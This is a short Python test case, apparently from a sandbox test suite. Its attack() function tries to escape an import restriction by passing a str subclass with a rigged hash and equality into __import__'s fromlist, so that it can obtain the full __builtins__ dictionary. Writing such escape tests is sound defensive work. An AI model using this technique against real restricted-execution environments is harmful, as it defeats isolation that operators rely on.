"""No app imports the variables of a module that it may not name."""

CLASS = "imports"
BOUNDARY = "language"
NEEDS = ()
FILES = {"helper.py": "here = 1\n"}


class Name(str):
    turns = []

    def __hash__(self):
        return hash(self.turns.pop() if self.turns else "found")

    def __eq__(self, other):
        return other in ("__builtins__", "found")


def tried(turns):
    """With so many looks at the variables before the name is kept under another."""
    Name.turns[:] = ["__builtins__"] * turns
    module = __import__("helper", None, None, (Name("found"),), 0)
    return getattr(module, "found", None) or vars(module)["__builtins__"]


def attack():
    for turns in range(8):
        try:
            found = tried(turns)
        except (ImportError, KeyError, TypeError):
            continue
        if isinstance(found, dict) and "open" in found and "__build_class__" in found:
            return "ESCAPED: all built-in names, such as " + found["__build_class__"].__name__
